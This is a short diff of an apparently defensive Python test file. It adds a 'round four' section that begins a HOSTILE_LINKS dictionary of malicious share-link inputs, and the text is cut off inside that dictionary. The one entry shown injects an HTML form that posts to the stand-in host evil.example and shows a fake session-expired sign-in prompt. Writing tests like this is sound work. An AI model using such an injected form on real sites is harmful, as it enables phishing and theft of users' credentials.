@@ -666,7 +666,6 @@ def preview_storm(url: str, observations: Observations, loops: int = 4) -> dict:
             "first_message_s_alone": alone["first_message_s"], "first_message_s_during": during["first_message_s"]}
 
 
-
 # --- round four (issue 37): share links, invented sessions, job cost, step mode, NaN -------------
 HOSTILE_LINKS = {  # the issue's share links, each an unknown parameter NAME or a bad VALUE
     "form_as_name": {'<form action="http://evil.example/s"><p>Your session expired. Sign in</p>'
